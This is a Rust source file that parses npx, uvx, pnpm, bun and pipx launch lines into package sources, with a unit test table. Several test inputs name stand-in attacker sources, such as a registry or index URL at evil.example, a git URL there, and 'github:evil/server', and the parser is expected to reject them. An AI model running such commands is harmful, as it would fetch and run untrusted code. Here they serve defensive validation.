//! The package that a line of npx or uvx starts, where each word is understood.

use smcp_import::ImportSource;

/// What such a line starts.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct PackagedLine {
    /// The package, as `smcp import` takes it.
    pub(super) source: ImportSource,
    /// The program of the package, where the line names it apart from the package.
    pub(super) bin: Option<String>,
    /// The arguments of the server.
    pub(super) args: Vec<String>,
}

/// Which of the two registries a program fetches from.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Fetcher {
    Npm,
    Pypi,
}

/// Why a line is left as it is.
const UNKNOWN_WORD: &str = "a word of its command is not understood";
const SEVERAL_PACKAGES: &str = "it names several packages, and smcp starts one";

/// Options that change nothing about what is started.
const HARMLESS: [&str; 9] =
    ["-y", "--yes", "-q", "--quiet", "-s", "--silent", "--prefer-offline", "--prefer-online", "--bun"];

/// The name of a program without folder, ending and case.
pub(super) fn program(word: &str) -> String {
    let name = word.rsplit(['/', '\\']).next().unwrap_or(word).to_ascii_lowercase();
    [".exe", ".cmd", ".bat", ".ps1"].iter().find_map(|end| name.strip_suffix(end)).unwrap_or(&name).to_owned()
}

/// Returns the program that fetches, and the words behind it; `None` for any other command.
pub(super) fn fetcher(words: &[String]) -> Option<(Fetcher, &[String])> {
    let (first, rest) = words.split_first()?;
    let word = |at: usize| rest.get(at).map(String::as_str);
    let (fetcher, skipped) = match (program(first).as_str(), word(0), word(1)) {
        ("npx" | "pnpx" | "bunx", ..) => (Fetcher::Npm, 0),
        ("npm", Some("exec" | "x"), _) | ("pnpm" | "yarn", Some("dlx"), _) | ("bun", Some("x"), _) => (Fetcher::Npm, 1),
        ("uvx", ..) => (Fetcher::Pypi, 0),
        ("uv", Some("tool"), Some("run")) => (Fetcher::Pypi, 2),
        ("pipx", Some("run"), _) => (Fetcher::Pypi, 1),
        _ => return None,
    };
    Some((fetcher, rest.get(skipped..)?))
}

impl PackagedLine {
    /// Reads a line.
    ///
    /// # Errors
    /// Why it can't be put behind smcp: it is of another program, has several packages, or a word is not understood.
    pub(super) fn of(words: &[String]) -> Result<Self, &'static str> {
        let (fetcher, rest) = fetcher(words).ok_or(UNKNOWN_WORD)?;
        let own: &[&str] = match fetcher {
            Fetcher::Npm => &["-p", "--package"],
            Fetcher::Pypi => &["--from", "--spec"],
        };
        let (mut package, mut at) = (None, 0_usize);
        let mut next = || {
            let word = rest.get(at).ok_or(UNKNOWN_WORD);
            at = at.saturating_add(1);
            word
        };
        let first = loop {
            let word = next()?;
            let named = match word.split_once('=') {
                Some((option, value)) if own.contains(&option) => value.to_owned(),
                _ if own.contains(&word.as_str()) => next()?.clone(),
                _ if HARMLESS.contains(&word.as_str()) => continue,
                _ if word == "--" && fetcher == Fetcher::Npm => break next()?,
                _ if word.starts_with('-') => return Err(UNKNOWN_WORD),
                _ => break word,
            };
            if package.replace(named).is_some() {
                return Err(SEVERAL_PACKAGES);
            }
        };
        let args = rest.get(at..).unwrap_or_default().to_vec();
        // Whether the program itself takes this one away depends on its version.
        if args.first().is_some_and(|word| word == "--") {
            return Err(UNKNOWN_WORD);
        }
        let bin = package.is_some().then(|| first.clone());
        let named = package.unwrap_or_else(|| first.clone());
        let source = match fetcher {
            Fetcher::Npm => format!("npm:{}", named.strip_suffix("@latest").unwrap_or(&named)),
            // `uvx` has `@` where pip has `==`.
            Fetcher::Pypi => match named.split_once('@') {
                Some((name, "latest")) => format!("pypi:{name}"),
                Some((name, version)) => format!("pypi:{name}=={version}"),
                None => format!("pypi:{named}"),
            },
        };
        let source = source.parse().map_err(|_| UNKNOWN_WORD)?;
        Ok(Self { source, bin, args })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_line_names_its_package() {
        let cases = [
            ("npx -y @scope/server@1.2.0 /data", Some(("npm:@scope/server@1.2.0", None, "/data"))),
            ("/usr/bin/npx server", Some(("npm:server", None, ""))),
            ("npx.cmd -y server@latest --flag", Some(("npm:server", None, "--flag"))),
            ("npx -y -p @scope/tools server --stdio", Some(("npm:@scope/tools", Some("server"), "--stdio"))),
            ("npx --package=@scope/tools server", Some(("npm:@scope/tools", Some("server"), ""))),
            ("npm exec -- server a", Some(("npm:server", None, "a"))),
            ("pnpm dlx server", Some(("npm:server", None, ""))),
            ("bunx --bun server", Some(("npm:server", None, ""))),
            (
                "uvx mcp-server-time --local-timezone=Europe/Berlin",
                Some(("pypi:mcp-server-time", None, "--local-timezone=Europe/Berlin")),
            ),
            ("uvx mcp-server-git@2026.1.1", Some(("pypi:mcp-server-git==2026.1.1", None, ""))),
            ("uvx mcp-server-git@latest", Some(("pypi:mcp-server-git", None, ""))),
            ("uvx --from mcp-tools==1.0.0 serve", Some(("pypi:mcp-tools==1.0.0", Some("serve"), ""))),
            ("uv tool run server", Some(("pypi:server", None, ""))),
            ("pipx run server", Some(("pypi:server", None, ""))),
            ("uvx mcp[cli] version", Some(("pypi:mcp[cli]", None, "version"))),
            ("uvx mcp[cli]@2.3.0", Some(("pypi:mcp[cli]==2.3.0", None, ""))),
            ("uvx --from mcp[cli,ws]==2.3.0 mcp", Some(("pypi:mcp[cli,ws]==2.3.0", Some("mcp"), ""))),
            ("npx -y -p server -p cowsay cowsay", None),
            ("npx --package=server --package server server", None),
            ("npx -p server", None),
            ("npx --", None),
            ("npx", None),
            ("npx -y", None),
            ("npx --registry https://evil.example server", None),
            ("npx -c server", None),
            ("npx github:evil/server", None),
            ("npx ./server", None),
            ("npx server -- a", None),
            ("uvx --with evil server", None),
            ("uvx --index-url https://evil.example server", None),
            ("uvx --from git+https://evil.example/x server", None),
            ("npm start", None),
            ("node server.js", None),
        ];
        for (line, expected) in cases {
            let words: Vec<String> = line.split(' ').map(str::to_owned).collect();
            let found = PackagedLine::of(&words);
            let found = found.as_ref().ok().map(|it| (it.source.to_string(), it.bin.as_deref(), it.args.join(" ")));
            let expected = expected.map(|(source, bin, args)| (source.to_owned(), bin, args.to_owned()));
            assert_eq!(found, expected, "{line}");
        }
    }
}
